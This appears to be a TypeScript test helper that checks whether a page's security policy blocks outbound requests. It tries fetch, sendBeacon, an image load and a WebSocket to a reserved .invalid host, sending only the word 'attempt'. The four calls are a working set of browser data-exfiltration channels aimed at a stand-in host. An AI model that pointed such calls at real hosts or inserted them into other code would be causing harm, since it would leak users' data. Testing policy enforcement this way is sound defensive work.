/** Address of nothing: names that end in `.invalid` are never given to anybody. */
const NOWHERE = "https://elsewhere.invalid/?rows=";

/**
 * Tries to send something out in the ways a page has. Each must be stopped by the page's policy, which reports it by a
 * `securitypolicyviolation` event. What is sent is the word "attempt" and nothing of any table.
 */
export function attemptToSend(): void {
	void fetch(`${NOWHERE}attempt-by-fetch`, { method: "POST", body: "attempt" }).catch(() => {});
	navigator.sendBeacon(`${NOWHERE}attempt-by-beacon`, "attempt");
	new Image().src = `${NOWHERE}attempt-by-image`;
	try {
		new WebSocket("wss://elsewhere.invalid/attempt-by-socket").onerror = () => {};
	} catch {
		// Some browsers throw where the policy says no, and report it all the same.
	}
}

/** How many ways `attemptToSend` tries. */
export const WAYS = 4;
